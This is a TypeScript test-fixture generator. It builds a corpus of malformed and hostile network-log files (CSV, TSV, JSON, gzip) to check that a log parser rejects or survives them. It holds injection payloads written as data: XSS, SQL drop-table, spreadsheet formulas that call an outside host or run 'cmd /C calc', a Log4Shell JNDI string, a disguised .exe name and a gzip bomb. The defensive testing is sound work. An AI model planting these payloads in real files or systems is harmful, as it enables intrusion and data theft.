import {readdirSync, readFileSync} from "node:fs";
import {gzipSync} from "node:zlib";
import {csv, forms, Raw, tsv} from "./hostile-forms.js";
import type {Form, Row} from "./hostile-forms.js";

/** A file of the corpus. */
export interface HostileFile {
  name: string;
  bytes: Buffer;

  /** How many events can be read of it at least; null if it is to be refused as a whole, or holds none. */
  least: number | null;
}

/** The benign rows of a file. */
export const benign = 40;

const nested = (levels: number): string => `${"[".repeat(levels)}1${"]".repeat(levels)}`;

/** What stands in every text field of a row; each row must be read, or be rejected alone. */
const texts: readonly [name: string, value: string][] = [
  ["nul", "a\0b\0"],
  ["ansi", "\u001b[2J\u001b[31mred\u001b]8;;http://elsewhere.example\u0007link\u009b1m"],
  ["html", '"><img src=x onerror=alert(1)><script>alert(2)</script>'],
  ["sql", "'; DROP TABLE events; --"],
  ["formula", '=HYPERLINK("http://elsewhere.example/"&A1)'],
  ["formula-plus", "+SUM(1+1)*cmd|' /C calc'!A0"],
  ["right-to-left", "\u202egnp.exe\u2066\u200f\u061c"],
  ["zero-width", "\u200b\u200c\u200d\ufeff\u2060"],
  ["surrogate", "\ud800\udfff\udc00"],
  ["spaces", `a${" ".repeat(60_000)}b`],
  ["only-spaces", " ".repeat(60_000)],
  ["quotes", '""""""""'],
  ["backslashes", "\\x\\x0\\x00\\xff\\u0000\\".repeat(200)],
  ["percent", "%s%n%x%00${jndi:ldap://x}{{7*7}}"],
  ...["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"].map(
    (name): [string, string] => [`property-${name.replaceAll("_", "")}`, name]
  )
];

/** Values that are not the text of a field, as JSON. */
const values: readonly [name: string, value: string][] = [
  ["deep", nested(6000)],
  ["deeper", nested(200_000)],
  ["long-list", `[${"1,".repeat(200_000)}1]`],
  ["object", '{"__proto__":{"toString":1},"constructor":null}'],
  ["number", "1e400"],
  ["exponent", "-1E-400"],
  ["digits", "9".repeat(5000)],
  ["true", "true"]
];

/** Returns a file of *form*: benign rows, with *rows* in their middle. */
function fileOf(form: Form, rows: readonly string[], header = form.header): string {
  const lines = Array.from({length: benign}, (_, i) => form.line(i));
  return [...header, ...lines.slice(0, benign / 2), ...rows, ...lines.slice(benign / 2), ""].join("\n"); // prettier-ignore
}

function withRows(form: Form): HostileFile[] {
  const isJson = form.header.length === 0;
  const all: [string, Row][] = [
    ...texts.map(([name, value]): [string, Row] => [
      name,
      {proto: value, service: value, note: value}
    ]),
    ...values.map(([name, text]): [string, Row] => {
      const value = isJson ? new Raw(text) : form === csv ? text.replaceAll(",", ";") : text;
      return [`value-${name}`, {proto: value, service: value, note: value}];
    }),
    ["time-text", {time: isJson ? '"soon"' : "soon"}],
    ["time-digits", {time: "9".repeat(4000)}]
  ];
  return all.map(([name, row]) => ({
    name: `${name}.${form.extension}`,
    bytes: Buffer.from(fileOf(form, [form.line(benign, row)])),
    least: benign
  }));
}

function withLines(form: Form): HostileFile[] {
  const rows: [name: string, lines: string[], least?: number][] = [
    [
      "garbage",
      ["\u0001\u0002", "{", "}", "[]", "null", '"', "\t\t\t", ",,,", "#", "\\", "1"],
      benign - 1
    ],
    ["long-line", [`x${"y".repeat(1_200_000)}`]],
    ["blank-lines", ["", " ", "\r", "\t", "\u00a0", ""]],
    ["header-again", [...form.header]],
    ["duplicate-keys", ['{"ts":1,"ts":2,"id.orig_h":"::1","id.orig_h":"::2","a":{"a":1},"a":[]}']],
    [
      "many-columns",
      [Array.from({length: 10_000}, (_, i) => `c${i}`).join(form === tsv ? "\t" : ",")]
    ],
    [
      "proto-object",
      ['{"__proto__":{"ts":1772409600,"id.orig_h":"::1","id.resp_h":"::1","conn_state":"SF"}}']
    ]
  ];
  return rows.map(([name, lines, least = benign]) => ({
    name: `${name}.${form.extension}`,
    bytes: Buffer.from(fileOf(form, lines)),
    least
  }));
}

function withBytes(form: Form): HostileFile[] {
  const text = fileOf(form, []);
  const bytes = Buffer.from(text);
  const zipped = gzipSync(bytes);
  const half = zipped.subarray(0, zipped.length >> 1);
  const invalid = Buffer.from(
    fileOf(form, [form.line(benign, {service: "\u0100\u0101"})]),
    "latin1"
  );
  const bomb = gzipSync(Buffer.concat([bytes, Buffer.alloc(3 << 20, "a")]), {level: 9});
  const all: [name: string, bytes: Buffer, least: number | null][] = [
    ["bom", Buffer.from(`\ufeff${text}`), benign],
    ["utf16le", Buffer.from(`\ufeff${text}`, "utf16le"), null],
    ["utf16be", Buffer.from(`\ufeff${text}`, "utf16le").swap16(), null],
    ["utf16-unmarked", Buffer.from(text, "utf16le"), null],
    ["utf16-gz", gzipSync(Buffer.from(`\ufeff${text}`, "utf16le")), null],
    ["latin1", invalid, benign],
    [
      "invalid-utf8",
      Buffer.concat([bytes, Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80, 10])]),
      benign
    ],
    ["crlf", Buffer.from(text.replaceAll("\n", "\r\n")), benign],
    [
      "mixed-ends",
      Buffer.from(text.replaceAll("\n", (_, i: number) => (i % 2 ? "\r\n" : "\n"))),
      benign
    ],
    ["cr", Buffer.from(text.replaceAll("\n", "\r")), null],
    ["no-end", Buffer.from(text.trimEnd()), benign],
    ["cut", Buffer.from(text.trimEnd().slice(0, -30)), benign - 1],
    ["gz", zipped, benign],
    ["gz-cut", half, 0],
    ["gz-two", Buffer.concat([gzipSync(bytes), gzipSync(form.line(benign))]), benign],
    ["gz-garbage", Buffer.concat([zipped, Buffer.from("garbage")]), benign],
    ["gz-zeros", Buffer.concat([zipped, Buffer.alloc(512)]), benign],
    ["gz-damaged", Buffer.concat([half, Buffer.alloc(40, 7), half]), 0],
    ["gz-bomb", bomb, benign],
    ["sparse", Buffer.concat([bytes, Buffer.alloc(1 << 20)]), null]
  ];
  return all.map(([name, content, least]) => ({
    name: `${name}.${form.extension}`,
    bytes: content,
    least
  }));
}

/** Files of tables: their quotes and headers. */
function tables(): HostileFile[] {
  const open = csv.line(benign).replace(/none$/, '"none');
  const swapped = "ts,dst,dst_port,src,src_port,proto,service,duration,orig_bytes,resp_bytes,note";
  const wide = [`${csv.header[0]},${Array.from({length: 10_000}, (_, i) => `c${i}`).join(",")}`];
  const rows: [name: string, text: string, least: number | null][] = [
    ["quote-open", fileOf(csv, [open]), benign],
    ["quote-over-records", `${csv.header[0]}\n${open}\n${fileOf(csv, [], [])}${csv.line(1)}"\n`, 0],
    ["quote-first", `"${fileOf(csv, [])}`, null],
    [
      "quote-each",
      fileOf(csv, [], []).replaceAll("none", '"none').replace(/^/, `${csv.header[0]}\n`),
      null
    ],
    ["quote-stray", fileOf(csv, [csv.line(1).replace("tcp", '"tc"p')]), benign],
    ["quote-lines", fileOf(csv, [csv.line(1, {note: "two\nlines"})]), benign + 1],
    ["header-swapped", fileOf(csv, [swapped]), benign],
    ["header-other", fileOf(csv, ["a,b,c", "1,2,3"]), benign],
    ["wide", fileOf(csv, [], wide).replaceAll("none", `none${",".repeat(10_000)}`), benign],
    ["header-properties", fileOf(csv, [], [csv.header[0].replace("note", "constructor")]), benign]
  ];
  return rows.map(([name, text, least]) => ({
    name: `${name}.csv`,
    bytes: Buffer.from(text),
    least
  }));
}

/** Files that are no log. */
function others(): HostileFile[] {
  const all: [name: string, bytes: Buffer][] = [
    ["empty.log", Buffer.alloc(0)],
    ["empty.gz", gzipSync("")],
    ["blank.log", Buffer.from(" \n\t\n\r\n")],
    ["zeros.log", Buffer.alloc(1 << 16)],
    ["zip.zip", Buffer.from("PK\u0003\u0004rest of a zip file")],
    ["list.json", Buffer.from("[\n{}\n]\n")],
    ["deep.json", Buffer.from(nested(100_000))],
    ["open.json", Buffer.from("[".repeat(100_000))],
    ["script.html", Buffer.from("<script>alert(1)</script>\n")],
    ["random.bin", Buffer.from(Array.from({length: 4096}, (_, i) => (i * i * 31 + i * 7) & 255))],
    ["-dash.log", Buffer.from("no log\n")],
    ["only-header.log", Buffer.from(`${tsv.header.join("\n")}\n`)],
    ["only-header.csv", Buffer.from(`${csv.header[0]}\n`)]
  ];
  return all.map(([name, bytes]) => ({name, bytes, least: null}));
}

const folder = new URL("../../fixtures/hostile/", import.meta.url);

/** Files written by hand, each with a record that can be read: another is tested once it lies there. */
function written(): HostileFile[] {
  return readdirSync(folder).map((name) => ({
    name: `written-${name}`,
    bytes: readFileSync(new URL(name, folder)),
    least: 1
  }));
}

/** The corpus: every kind of damage and of attack in every format of logs, and files that are no log. */
export function hostileFiles(): HostileFile[] {
  return [
    ...forms.flatMap((form) => [...withRows(form), ...withLines(form), ...withBytes(form)]),
    ...tables(),
    ...others(),
    ...written()
  ];
}
